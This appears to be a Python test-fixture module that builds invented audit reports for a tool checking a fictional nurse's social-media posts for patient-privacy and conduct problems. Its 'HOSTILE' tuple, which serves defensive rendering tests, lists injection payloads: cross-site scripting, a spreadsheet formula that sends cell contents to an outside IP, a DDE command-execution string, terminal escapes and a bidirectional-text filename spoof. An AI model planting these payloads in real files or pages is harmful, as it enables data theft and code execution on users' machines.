"""Invented reports to test with; nobody in them exists."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime

from auditor.disposition import Count, Disposition, tally
from auditor.model import Category, EntryState, Severity, Span, SpanType, Tier
from auditor.report.model import (
    AccountLine,
    Attestation,
    Audience,
    CycleLine,
    DeletionLine,
    Detail,
    Evidence,
    FindingLine,
    HoldLine,
    LogLine,
    Method,
    OwnerLine,
    Proof,
    Report,
    Scope,
)

NOW = datetime(2026, 11, 22, 9, 30, tzinfo=UTC)
HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://198.51.100.7/"&A1)',
    " \t@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[2J\x1b]0;owned\x07\x9b31m red\x00",
    "\u202egnp.exe\u2066 hidden\u200b\ufeff",
    "| a | b |\n|---|---|\n\n# heading\n\n```\ncode\n```\n    indented",
    "[click](javascript:alert(1)) ![x](http://198.51.100.7/p.png) <http://198.51.100.7> `tick` \\",
    "{{ 7*7 }} {% include 'etc' %} ]]> --> </style></table>",
    "sha256:" + "0" * 64,
    '\r\n"quoted","more"\r\n',
    "\ud800 lone \udfff",
    "www.example.invalid @someone #tag ~~gone~~ 1. one\n- two\n> three\n===",
)
"""Text that tries to be more than text, in every format."""

POSTS = (
    ("phi/name", "A patient's name", Category.PHI, Severity.CRITICAL, Tier.LIKELY_PHI, Disposition.DELETE),
    (
        "phi/mosaic",
        "Details that add up",
        Category.PHI,
        Severity.HIGH,
        Tier.NOT_DEIDENTIFIED,
        Disposition.OPEN,
    ),
    ("phi/date", "A date of care", Category.PHI, Severity.MEDIUM, Tier.NOT_DEIDENTIFIED, Disposition.LATER),
    (
        "advice/dosing",
        "A dose for one person",
        Category.ADVICE,
        Severity.HIGH,
        Tier.STANDARDS,
        Disposition.EDIT,
    ),
    (
        "coi/undisclosed-sponsor",
        "A sponsor not named",
        Category.COI,
        Severity.MEDIUM,
        Tier.STANDARDS,
        Disposition.OPEN,
    ),
    ("conduct/patient-derision", "Scorn", Category.CONDUCT, Severity.HIGH, Tier.STANDARDS, Disposition.GONE),
    (
        "conduct/employer-complaint",
        "Pay",
        Category.CONDUCT,
        Severity.INFO,
        Tier.HOUSEKEEPING,
        Disposition.OPEN,
    ),
    (
        "mixing/clinical-on-personal",
        "Work talk",
        Category.MIXING,
        Severity.LOW,
        Tier.HOUSEKEEPING,
        Disposition.KEEP,
    ),
    ("phi/url", "A link", Category.PHI, Severity.HIGH, Tier.NOT_DEIDENTIFIED, Disposition.FALSE_POSITIVE),
    (
        "disclaimer/bio-affiliation",
        "Views",
        Category.DISCLAIMER,
        Severity.LOW,
        Tier.STANDARDS,
        Disposition.RESOLVED,
    ),
)


def detail(number: int, text: str = "Mrs Quillfeather, 94, fell off the ferry last night") -> Detail:
    """What only the owner sees."""
    return Detail(
        handle="@wren_ashdown",
        item_id=f"9{number:017}",
        created_at=datetime(2026, 10, 3, 21, 14, tzinfo=UTC),
        text=text,
        parent_text="how was your night?",
        url=f"https://example.invalid/status/{number}",
        media=("media/ward-photo.jpg",),
        spans=(Span(0, 16, SpanType.NAME), Span(18, 20, SpanType.AGE)),
        reason="A name of a patient and an age over 89 together may identify the patient.",
        remedy="Delete it, or tell it without name and age.",
        citations=("45 CFR 164.514(b)(2)(i)(A)",),
        decision_reason="",
        content_digest=f"{number:064x}",
    )


def finding(number: int, text: str | None = None) -> FindingLine:
    """One of the invented findings, by its place in `POSTS`."""
    rule, title, category, severity, tier, disposition = POSTS[(number - 1) % len(POSTS)]
    return FindingLine(
        number=number,
        category=category,
        rule=rule,
        rule_version=1,
        title=title,
        severity=severity,
        tier=tier,
        confidence=0.91,
        platform="x",
        kind="post",
        when="2026-10-03",
        disposition=disposition,
        span_types=(SpanType.NAME, SpanType.AGE),
        reference=f"{number:016x}",
        detail=detail(number) if text is None else detail(number, text),
    )


def deletion(number: int, state: EntryState) -> DeletionLine:
    """One planned deletion."""
    return DeletionLine(
        platform="x",
        kind="post",
        when="2026-10-03",
        state=state,
        planned_at=date(2026, 11, 20),
        is_copy_preserved=True,
        reference=f"{number:016x}",
        evidence=Evidence(
            handle="@wren_ashdown",
            item_id=f"9{number:017}",
            url=f"https://example.invalid/status/{number}",
            planned_digest=f"{number:064x}",
            plan_id="7f3a90c1",
            copy_digest=f"{number + 1:064x}",
            rules=(POSTS[(number - 1) % len(POSTS)][0],),
        ),
    )


def full_report(findings: tuple[FindingLine, ...] | None = None) -> Report:
    """A whole report as the owner's vault would give it, before any redaction."""
    lines = tuple(finding(n) for n in range(1, len(POSTS) + 1)) if findings is None else findings
    return Report(
        audience=Audience.SELF,
        cycle="2026-Q4",
        cycle_first=date(2026, 10, 1),
        cycle_last=date(2026, 12, 31),
        is_cycle_closed=False,
        made_at=NOW,
        owner=OwnerLine("Wren Ashdown", "emergency nurse", ("Harbour Street Hospital",)),
        scope=Scope(
            accounts=(
                AccountLine(
                    "x",
                    "@wren_ashdown",
                    "professional",
                    4310,
                    date(2014, 2, 3),
                    date(2026, 11, 18),
                    "x-archive",
                ),
                AccountLine(
                    "mastodon",
                    "@wren@tidal.example",
                    "personal",
                    612,
                    date(2022, 11, 5),
                    date(2026, 11, 19),
                    "mastodon-export",
                ),
            ),
            items=4922,
            items_not_audited=0,
            unread=3,
            imports_unfinished=0,
            platforms_not_imported=("facebook", "instagram", "linkedin", "tiktok", "threads", "bluesky"),
        ),
        method=Method("0.1.0", "5b1e0c9a77d2", 17, NOW, 4922, 4904),
        counts=tally((f.category, f.severity, f.disposition) for f in lines),
        trend=(
            CycleLine(
                "2026-Q3",
                datetime(2026, 9, 28, 18, 0, tzinfo=UTC),
                (
                    Count(Category.PHI, Severity.CRITICAL, Disposition.GONE, 4),
                    Count(Category.PHI, Severity.HIGH, Disposition.OPEN, 9),
                    Count(Category.CONDUCT, Severity.MEDIUM, Disposition.KEEP, 2),
                ),
            ),
        ),
        deletions=(
            deletion(1, EntryState.BY_HAND),
            deletion(6, EntryState.GONE),
            deletion(11, EntryState.UNKNOWN),
        ),
        findings=lines,
        attestation=Attestation("", "", None),
        proof=Proof(
            holds=(HoldLine("7f3a90c1", False, "", NOW),),
            log=(LogLine(1, NOW, "import", "a" * 64), LogLine(2, NOW, "plan-made", "b" * 64)),
            log_head="b" * 64,
            is_log_intact=True,
        ),
    )


def poisoned(text: str) -> Report:
    """The full report with `text` wherever something from outside may stand."""
    base = full_report()
    poison = replace(
        detail(1, text),
        handle=text,
        item_id=text,
        parent_text=text,
        url=text,
        media=(text,),
        reason=text,
        remedy=text,
        citations=(text,),
        decision_reason=text,
    )
    return replace(
        base,
        owner=OwnerLine(text, text, (text,)),
        scope=replace(
            base.scope,
            accounts=tuple(replace(a, platform=text, handle=text) for a in base.scope.accounts),
        ),
        findings=tuple(replace(f, platform=text, detail=poison) for f in base.findings),
        deletions=tuple(
            replace(d, platform=text, evidence=replace(d.evidence, handle=text, item_id=text, url=text))
            for d in base.deletions
            if d.evidence
        ),
        attestation=Attestation(text, text, NOW),
        is_cycle_closed=True,
        proof=replace(base.proof, holds=(HoldLine("7f3a90c1", True, text, NOW),)) if base.proof else None,
    )


def closed(report: Report) -> Report:
    """The same report of a cycle that was closed and signed."""
    return replace(
        report,
        is_cycle_closed=True,
        attestation=Attestation("Wren Ashdown", "I have looked at every finding listed here.", NOW),
    )
